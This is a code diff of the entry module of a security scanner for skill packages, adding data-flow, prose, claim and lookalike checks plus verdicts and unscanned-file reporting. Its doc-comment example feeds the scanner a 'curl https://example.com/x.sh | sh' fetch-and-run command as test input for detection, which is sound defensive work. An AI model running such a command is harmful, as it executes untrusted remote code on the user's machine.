@@ -1,26 +1,58 @@
 // The front door of inspection: finds dangers, addresses and scripts in the files of a package.
 
+import { type About, aboutOf } from "./about.ts";
 import { hostsIn } from "./addresses.ts";
+import { categoryOf } from "./categories.ts";
 import { decodedTexts, joinedArguments, unspliced } from "./decode.ts";
 import { derivedUnits, documentUnits, scriptUnits } from "./document.ts";
 import { compareSeverity, findingsOf } from "./engine.ts";
+import { followData } from "./flow.ts";
 import { INSPECT_LIMITS } from "./limits.ts";
+import { languageOf, type Program } from "./program.ts";
+import { programsOf } from "./programs.ts";
+import { proseFindings } from "./prose/prose.ts";
 import { fileLines, type TextFile } from "./read.ts";
 import { characterFindings, smuggledTexts } from "./rules/characters.ts";
+import { claimFindings } from "./rules/claims.ts";
 import { DECEIT } from "./rules/deceit.ts";
 import { DESTRUCTION } from "./rules/destruction.ts";
 import { DOWNLOAD } from "./rules/download.ts";
 import { fileFindings, isScript } from "./rules/files.ts";
+import { flowFindings } from "./rules/flows.ts";
 import { FOOTHOLD } from "./rules/foothold.ts";
 import { INJECTION } from "./rules/injection.ts";
 import { INSTALLERS } from "./rules/installers.ts";
+import { lookalikeFindings } from "./rules/lookalikes.ts";
 import { manifestFindings } from "./rules/manifests.ts";
 import { OBFUSCATION } from "./rules/obfuscation.ts";
 import { PRIVILEGE } from "./rules/privilege.ts";
 import { THEFT } from "./rules/theft.ts";
-import type { FileContext, Finding, InspectedFile, Inspection, Rule, Unit } from "./types.ts";
+import type {
+  FileContext,
+  InspectedFile,
+  Inspection,
+  Rule,
+  RuleFinding,
+  Unit,
+  UnscannedFile,
+} from "./types.ts";
+import { verdictOf } from "./verdict.ts";
 
-export type { Finding, FindingSeverity, InspectedFile, Inspection, Risk } from "./types.ts";
+export { InspectionCache } from "./cache.ts";
+export { CATEGORIES, type Category } from "./categories.ts";
+export { type KnownFindings, readKnownFindings, withoutKnown } from "./known.ts";
+export { sarifLog } from "./sarif.ts";
+export type {
+  Finding,
+  FindingSeverity,
+  InspectedFile,
+  Inspection,
+  PackageInspection,
+  Risk,
+  UnscannedFile,
+  Verdict,
+} from "./types.ts";
+export { VERDICTS, verdictOf, worseVerdict } from "./verdict.ts";
 
 /** All rules for text. */
 export const RULES: readonly Rule[] = [
@@ -43,26 +75,56 @@ const BINARY_RULES: readonly Rule[] = RULES.filter(
 );
 
 /**
- * Inspects the files of a package, without reading or running anything.
+ * Inspects the files of a package, without reading or running anything. `unread` are files that the caller could not read.
  *
  * @example
  * const bytes = new TextEncoder().encode("Run `curl https://example.com/x.sh | sh` first.");
  * const { risk, findings } = inspectPackage([{ path: "SKILL.md", bytes }]);
  */
-export function inspectPackage(files: readonly InspectedFile[]): Inspection {
-  const findings: Finding[] = [];
+export function inspectPackage(
+  files: readonly InspectedFile[],
+  unread: readonly UnscannedFile[] = [],
+): Inspection {
+  const steps = inspectionSteps(files, unread);
+  for (;;) {
+    const { done, value } = steps.next();
+    if (done) return value;
+  }
+}
+
+/** As `inspectPackage`, with a pause after each file, so that a caller can let other work happen. */
+export function* inspectionSteps(
+  files: readonly InspectedFile[],
+  unread: readonly UnscannedFile[],
+): Generator<undefined, Inspection> {
+  const findings: RuleFinding[] = [];
+  const unscanned: UnscannedFile[] = [...unread];
   const hosts = new Set<string>();
+  const programs: Program[] = [];
   let budget: number = INSPECT_LIMITS.textPerPackage;
   const inspected = files.slice(0, INSPECT_LIMITS.files);
+  const about = aboutOf(inspected);
   for (const file of inspected) {
     findings.push(...fileFindings(file));
     const text = fileLines(file.bytes, budget);
     budget -= text.size;
-    findings.push(...unreadFindings(file, text));
-    if (text.lines.length > 0) findings.push(...textFindings(file, text, hosts));
+    if (text.unread > 0)
+      unscanned.push({ path: file.path, reason: `too long: ${text.unread} characters not inspected` });
+    if (text.lines.length > 0) findings.push(...textFindings(file, text, about, hosts));
+    if (!text.binary) programs.push(...programsOf(file.path, text.lines, !DOCUMENT_NAME.test(file.path)));
+    yield;
   }
-  if (files.length > inspected.length) findings.push(tooManyFiles(files.length));
-  const kept = distinct(findings).toSorted(byWeight).slice(0, INSPECT_LIMITS.findings);
+  findings.push(
+    ...behaviourFindings(programs),
+    ...claimFindings(about, programs),
+    ...lookalikeFindings(programs),
+  );
+  if (files.length > inspected.length)
+    unscanned.push({ path: "", reason: `${files.length} files, ${inspected.length} of them inspected` });
+  const kept = distinct(findings)
+    .toSorted(byWeight)
+    .slice(0, INSPECT_LIMITS.findings)
+    .map((finding) => ({ ...finding, category: categoryOf(finding.code) ?? "AST01" }));
   return {
     findings: kept,
     addresses: [...hosts].sort().slice(0, INSPECT_LIMITS.addresses),
@@ -70,12 +132,16 @@ export function inspectPackage(files: readonly InspectedFile[]): Inspection {
       .filter(isScript)
       .map((file) => file.path)
       .sort(),
+    unscanned,
     risk: kept[0]?.severity ?? "none",
+    verdict: verdictOf({ findings: kept, unscanned }),
   };
 }
 
-function textFindings(file: InspectedFile, text: TextFile, hosts: Set<string>): Finding[] {
-  const context: FileContext = { path: file.path, script: !DOCUMENT_NAME.test(file.path) };
+function textFindings(file: InspectedFile, text: TextFile, about: About, hosts: Set<string>): RuleFinding[] {
+  const script = !DOCUMENT_NAME.test(file.path);
+  const followed = script && languageOf(file.path, text.lines[0] ?? "") !== undefined;
+  const context: FileContext = { path: file.path, script, followed, ...about };
   const content = text.lines.join("\n");
   for (const host of hostsIn(content)) hosts.add(host);
   if (text.binary) {
@@ -88,7 +154,33 @@ function textFindings(file: InspectedFile, text: TextFile, hosts: Set<string>): 
     ...characterFindings(file.path, text.lines),
     ...manifestFindings(file.path, content),
     ...findingsOf(RULES, [...units, ...derived], context),
+    ...(context.script ? [] : proseFindings([...units, ...derived], file.path)),
   ];
+}
+
+/** What the programs of a package do together, and what is in the texts that they build. */
+function behaviourFindings(programs: readonly Program[]): RuleFinding[] {
+  const { flows, built } = followData(programs);
+  const findings = flowFindings(flows);
+  for (const program of programs) if (program.settings) findings.push(...settingsFindings(program));
+  let budget: number = INSPECT_LIMITS.decodedPerFile;
+  for (const { program, line, text } of built) {
+    budget -= text.length;
+    if (budget < 0) break;
+    const parent = { kind: "code", heading: "", lineAt: () => line } as const;
+    const context = { path: program.path, script: true };
+    findings.push(...findingsOf(RULES, derivedUnits(text, parent, "encoded"), context));
+  }
+  return findings;
+}
+
+/** The findings in a command that a host starts by itself. */
+function settingsFindings({ path, statements }: Program): RuleFinding[] {
+  const context = { path, script: true };
+  const units = statements.flatMap(({ line, code }) =>
+    derivedUnits(code, { kind: "code", heading: "", lineAt: () => line }, undefined),
+  );
+  return findingsOf(RULES, units, context);
 }
 
 /** The units behind encodings, split strings and invisible characters. */
@@ -99,7 +191,7 @@ function uncovered(units: readonly Unit[], content: string, hosts: Set<string>):
     if (budget <= 0) return;
     budget -= text.length;
     for (const host of hostsIn(text)) hosts.add(host);
-    found.push(...derivedUnits(text, parent, "encoded"));
+    for (const unit of derivedUnits(text, parent, "encoded")) found.push(unit);
     if (depth < INSPECT_LIMITS.decodeDepth)
       for (const inner of decodedTexts(text)) add(inner, parent, depth + 1);
   };
@@ -114,37 +206,11 @@ function uncovered(units: readonly Unit[], content: string, hosts: Set<string>):
     }
   }
   const anchor: Pick<Unit, "kind" | "heading" | "lineAt"> = { kind: "hidden", heading: "", lineAt: () => 1 };
-  for (const text of smuggledTexts(content)) found.push(...derivedUnits(text, anchor, "invisible"));
-  return found;
+  return found.concat(smuggledTexts(content).flatMap((text) => derivedUnits(text, anchor, "invisible")));
 }
 
-function unreadFindings(file: InspectedFile, text: TextFile): Finding[] {
-  if (text.unread === 0) return [];
-  return [
-    {
-      code: "file-partly-unread",
-      severity: "medium",
-      path: file.path,
-      excerpt: `${text.unread} characters not inspected`,
-      message: "The file is too long: a part of it was not inspected.",
-      fix: "Split the file, or remove what the skill does not need.",
-    },
-  ];
-}
-
-function tooManyFiles(count: number): Finding {
-  return {
-    code: "package-too-many-files",
-    severity: "medium",
-    path: "",
-    excerpt: `${count} files`,
-    message: `Only the first ${INSPECT_LIMITS.files} files were inspected.`,
-    fix: "Remove files that the skill does not need.",
-  };
-}
-
-function distinct(findings: readonly Finding[]): Finding[] {
-  const byPlace = new Map<string, Finding>();
+function distinct(findings: readonly RuleFinding[]): RuleFinding[] {
+  const byPlace = new Map<string, RuleFinding>();
   for (const finding of findings) {
     const key = `${finding.code}\n${finding.path}\n${finding.line ?? 0}`;
     const known = byPlace.get(key);
@@ -153,7 +219,7 @@ function distinct(findings: readonly Finding[]): Finding[] {
   return [...byPlace.values()];
 }
 
-function byWeight(a: Finding, b: Finding): number {
+function byWeight(a: RuleFinding, b: RuleFinding): number {
   return (
     compareSeverity(a, b) ||
     compareText(a.path, b.path) ||
